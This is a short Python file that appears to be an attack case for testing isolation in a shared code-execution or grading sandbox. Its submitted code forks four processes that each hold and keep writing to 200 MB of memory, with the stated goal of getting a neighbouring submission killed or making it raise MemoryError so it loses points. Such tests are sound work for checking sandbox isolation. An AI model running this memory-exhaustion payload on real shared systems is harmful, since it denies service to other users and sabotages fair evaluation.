"""Uses nearly all the memory that it may, in several processes, and keeps writing to it.

Success: a neighbor's process is killed or its code raises a MemoryError, so that it loses points.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, time

        for _ in range(4):
            if not os.fork():
                block = bytearray(200 << 20)
                end = time.monotonic() + 20
                while time.monotonic() < end:
                    for position in range(0, len(block), 4096):
                        block[position] = 1
                    time.sleep(0.5)
                os._exit(0)
        time.sleep(20)
    """
    )
